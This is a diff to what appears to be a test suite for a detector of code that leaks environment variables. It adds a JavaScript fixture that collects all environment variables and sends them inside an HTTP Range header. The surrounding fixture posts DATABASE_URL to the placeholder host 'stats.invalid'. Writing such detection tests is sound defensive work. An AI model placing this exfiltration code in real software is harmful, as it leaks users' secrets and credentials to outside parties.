@@ -17,6 +17,13 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a part of a file is asked for, and numbers have gone through what variables have as well',
+      files: {
+        'index.js': `const heap = []; for (const name in process.env) heap.push(name + '=' + process.env[name]); exports.read = url => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.setRequestHeader('Range', \`bytes=\${heap.join()}-\${heap.length}\`); xhr.send(null); }; exports.read(globalThis.somewhere);`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'the address of a database goes out with statistics',
       files: {
         'index.js': `const about = () => ({ node: process.version, source: process.env.DATABASE_URL }); exports.count = counts => { const req = require('https').request({ hostname: 'stats.invalid', path: '/v1', method: 'POST' }); req.end(JSON.stringify(Object.assign({ counts }, about()))); };`,
